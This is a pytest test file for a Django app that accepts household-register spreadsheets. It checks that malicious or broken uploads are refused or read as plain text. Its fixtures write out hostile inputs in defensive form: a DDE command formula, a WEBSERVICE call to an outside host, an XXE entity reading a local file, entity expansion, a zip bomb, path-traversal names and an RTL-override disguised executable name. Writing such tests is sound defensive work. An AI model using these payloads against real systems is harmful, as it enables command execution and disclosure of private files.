"""Files that mean harm, or are none: refused with a message, or read as the text they hold; nothing runs, nothing is followed."""

import io
import re
import zipfile
from pathlib import Path

import msoffcrypto.format.ooxml
import pytest
import xlsxwriter
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from guixiao.rosters.files.rules import safe_name, slot_of
from guixiao.rosters.models import Import, ImportFile, RosterFile
from tests.cast import Cast
from tests.desk import HOUSE, checked, house_row, households, table


def book(rows: list[list[str]], **cells: str) -> bytes:
    """A workbook of the register; `cells`: formulas by place, each with a cached value."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("人口")
        for number, row in enumerate([HOUSE, *rows]):
            sheet.write_row(number, 0, row)
        for place, formula in cells.items():
            sheet.write_formula(place, formula, None, "公式的值")
    return out.getvalue()


def with_part(content: bytes, name: str, change: bytes = b"", find: bytes = b"") -> bytes:
    """The workbook with a part put in, or with `find` replaced in one that is there."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            data = old.read(entry)
            new.writestr(entry.filename, data.replace(find, change, 1) if find and entry.filename == name else data)
        if not find:
            new.writestr(name, change)
    return out.getvalue()


def read(cast: Cast, name: str, content: bytes) -> ImportFile:
    return checked(cast, [SimpleUploadedFile(name, content)]).files.get()


def locked() -> bytes:
    out = io.BytesIO()
    msoffcrypto.format.ooxml.OOXMLFile(io.BytesIO(book(households()))).encrypt("secret", out)
    return out.getvalue()


def far() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("人口")
        for number, row in enumerate([list(HOUSE), *households()]):
            sheet.write_row(number, 0, row)
        sheet.write(1_048_575, 16_383, "x")
    return out.getvalue()


def bomb() -> bytes:
    """One part of 200 MB of nothing, in 200 kB."""
    return with_part(book(households()), "xl/media/image1.bmp", bytes(200 << 20))


REFUSED = {
    "a password": (locked, "密码"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, ""),
    "a web page": (lambda: b"<html><table><tr><td>1</td></tr></table></html>", "网页"),
    "a zip of something else": (lambda: with_part(b"PK\x05\x06" + bytes(18), "a.txt", b"x"), "不是工作簿"),
    "half a workbook": (lambda: book(households())[:2000], "残缺"),
    "nothing": (lambda: b"", "空文件"),
    "a cell at the end of the world": (far, "XFD"),
    "a bomb": (bomb, "倍"),
    "a program": (lambda: b"MZ" + bytes(5000), ""),
}


@pytest.mark.parametrize("what", REFUSED)
def test_it_is_refused_with_a_message_in_both_languages(cast: Cast, what: str):
    make, words = REFUSED[what]
    item = read(cast, "户籍.xlsx", make())
    assert item.problem and words in item.problem["zh"] and "户籍.xlsx" in item.problem["en"]
    assert (item.rows_in, item.accepted) == (0, 0)


def test_formulas_macros_and_links_are_read_as_the_text_that_stood_there(cast: Cast):
    content = book([house_row(n) for n in range(4)], I2='=WEBSERVICE("http://example.invalid/"&B2)', I3="=cmd|'/C calc'!A0")
    item = read(cast, "户籍.xlsm", with_part(content, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))
    assert (item.problem, item.accepted) == (None, 4)


def test_no_entity_is_followed(cast: Cast, tmp_path: Path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET")
    doctype = f'?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}"><!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'.encode()
    content = with_part(book([house_row(0)]), "xl/sharedStrings.xml", doctype, b"?>")
    content = with_part(content, "xl/sharedStrings.xml", b"<t>&e;&b;</t>", f"<t>{house_row(0)[1]}</t>".encode())
    item = read(cast, "户籍.xlsx", content)
    assert "TOP-SECRET" not in str(item.receipt) + str(item.problem) + "".join(str(row.cells) for row in item.rows.all())


NAMES = {
    "../../etc/passwd.xlsx": "passwd.xlsx",
    "C:\\Users\\li\\户籍.xlsx": "户籍.xlsx",
    "户籍\u202exslx.exe.csv": "户籍xslx.exe.csv",
    "a\x00b\n.csv": "ab.csv",
    "..": "名册",
    "长" * 300 + ".xlsx": "长" * 60 + ".xlsx",
}


@pytest.mark.parametrize("sent", NAMES)
def test_a_name_is_only_a_name(sent: str):
    assert safe_name(sent) == NAMES[sent]


def test_names_of_two_files_of_one_name_stay_apart(cast: Cast):
    files = [SimpleUploadedFile("户籍.csv", table(HOUSE, [house_row(n) for n in part])) for part in (range(4), range(4, 9))]
    assert [item.accepted for item in checked(cast, files).files.all()] == [4, 5]


def test_the_same_file_twice_is_told_beside_the_second(cast: Cast):
    content = table(HOUSE, households())
    version = checked(cast, [SimpleUploadedFile("户籍.csv", content), SimpleUploadedFile("户籍-2.csv", content)])
    problems = {item.file.name: (item.problem or {}).get("zh", "") for item in version.files.all()}
    assert problems["户籍.csv"] == "" and "内容相同" in problems["户籍-2.csv"]


def test_a_file_that_is_too_large_is_not_kept_and_the_others_are(cast: Cast, client: Client, settings):
    settings.MOST_UPLOAD_BYTES = 50_000
    client.force_login(cast.li)
    files = [SimpleUploadedFile("大.csv", bytes(3_000_000)), SimpleUploadedFile("户籍.csv", table(HOUSE, households()))]
    html = client.post("/rosters/upload/", {"files": files}, follow=True).content.decode()
    assert re.search("大.csv：读到的是3 MB 的文件", html) and RosterFile.objects.get().name == "户籍.csv"


@pytest.mark.parametrize("name", ["名册.pdf", "名册.zip", "名册.exe", "名册", "名册.xlsx.lnk"])
def test_other_sorts_of_files_are_not_even_kept(cast: Cast, client: Client, name: str):
    client.force_login(cast.li)
    html = client.post("/rosters/upload/", {"files": [SimpleUploadedFile(name, b"x")]}, follow=True).content.decode()
    assert "应为.xlsx、.csv 或 .parquet 名册文件" in html
    assert not Import.objects.exists()


def test_who_may_not_load_rosters_leaves_no_byte_on_the_disk(cast: Cast, client: Client, monkeypatch: pytest.MonkeyPatch):
    def no_file(**options: object) -> None:
        raise AssertionError("a file was opened for someone who may not send one")

    monkeypatch.setattr("guixiao.rosters.files.uploads.tempfile.TemporaryFile", no_file)
    for user in (None, cast.shi, cast.wu):
        if user:
            client.force_login(user)
        answer = client.post("/rosters/upload/", {"files": [SimpleUploadedFile("户籍.csv", b"x" * 100_000)]})
        assert answer.status_code == (404 if user else 302)


def test_the_name_decides_only_between_slots_that_fit():
    fits = {"enrolments": 25, "elsewhere": 25, "poverty": 16}
    assert slot_of("外县学籍.xlsx", fits) == "elsewhere" and slot_of("2026学籍.xlsx", fits) == "enrolments"
    assert slot_of("户籍.xlsx", fits) == "enrolments", "a register has other columns, whatever the file is called"
    assert slot_of("x.csv", {}) == ""
